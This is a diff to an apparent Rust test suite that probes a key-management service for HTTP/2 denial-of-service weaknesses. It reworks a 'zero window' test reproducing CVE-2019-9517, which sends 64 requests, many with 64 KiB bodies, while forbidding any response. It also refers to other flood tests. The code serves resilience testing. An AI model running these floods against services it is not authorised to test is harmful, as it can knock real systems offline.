@@ -4,6 +4,7 @@ use std::io;
 
 use ekm_tests::base64;
 use ekm_tests::frames::*;
+use tokio::io::{AsyncRead, AsyncReadExt};
 use tokio::net::TcpStream;
 use tokio_rustls::client::TlsStream;
 
@@ -12,6 +13,15 @@ use crate::scenario::Protocol;
 
 /// As many as the service lets in at a time.
 const STREAMS: u32 = 64;
+
+/// What may be sent on a connection before the service says that it may be more.
+const FIRST_WINDOW: usize = 65_535;
+
+/// The longest frame that every server takes.
+const FRAME_BYTES: usize = 16 * 1024;
+
+/// What Cloud KMS takes at most.
+const PLAINTEXT_BYTES: usize = 64 * 1024;
 
 async fn open(client: &Client, settings: &[u8]) -> io::Result<TlsStream<TcpStream>> {
     let mut stream = client.tls(Protocol::Http2).await?;
@@ -87,14 +97,37 @@ pub async fn empty_data(client: &Client) -> io::Result<()> {
     client.flood_and_read(stream, |_| frame(DATA, 0, 1, &[])).await
 }
 
-/// Good requests whose answers may not be sent (CVE-2019-9517).
+/// Good requests whose answers may not be sent (CVE-2019-9517): half of them small, then as many large ones as the service takes.
 pub async fn zero_window(client: &Client) -> io::Result<()> {
-    let mut stream = open(client, &setting(INITIAL_WINDOW_SIZE, 0)).await?;
-    let (head, body) = (head(client), format!("{{\"plaintext\":\"{}\"}}", base64([b'p'; 32])));
-    let requests = (0..STREAMS).flat_map(|number| {
-        let (id, body) = (2 * number + 1, body.as_bytes());
-        [frame(HEADERS, END_HEADERS, id, &head), frame(DATA, END_STREAM, id, body)].concat()
-    });
-    send(&mut stream, &requests.collect::<Vec<_>>()).await?;
-    until_closed(&mut stream).await
+    let stream = open(client, &setting(INITIAL_WINDOW_SIZE, 0)).await?;
+    let (mut from, mut to) = tokio::io::split(stream);
+    let head = head(client);
+    let body = |bytes| format!("{{\"plaintext\":\"{}\"}}", base64(vec![b'p'; bytes])).into_bytes();
+    let (small, large, mut window) = (body(32), body(PLAINTEXT_BYTES), FIRST_WINDOW);
+    for number in 0..STREAMS {
+        let (id, body) = (2 * number + 1, if number < STREAMS / 2 { &small } else { &large });
+        send(&mut to, &frame(HEADERS, END_HEADERS, id, &head)).await?;
+        for piece in body.chunks(FRAME_BYTES) {
+            while window < piece.len() {
+                window += larger_window(&mut from).await?;
+            }
+            window -= piece.len();
+            send(&mut to, &frame(DATA, 0, id, piece)).await?;
+        }
+        send(&mut to, &frame(DATA, END_STREAM, id, &[])).await?;
+    }
+    until_closed(&mut from).await
+}
+
+/// Waits until more may be sent on the connection, and says how much.
+async fn larger_window<R: AsyncRead + Unpin>(from: &mut R) -> io::Result<usize> {
+    loop {
+        let length_and_kind = from.read_u32().await?;
+        let (_flags, stream) = (from.read_u8().await?, from.read_u32().await?);
+        let mut payload = vec![0; (length_and_kind >> 8) as usize];
+        from.read_exact(&mut payload).await?;
+        if length_and_kind as u8 == WINDOW_UPDATE && stream == 0 && payload.len() == 4 {
+            return Ok(payload.as_slice().read_u32().await? as usize);
+        }
+    }
 }
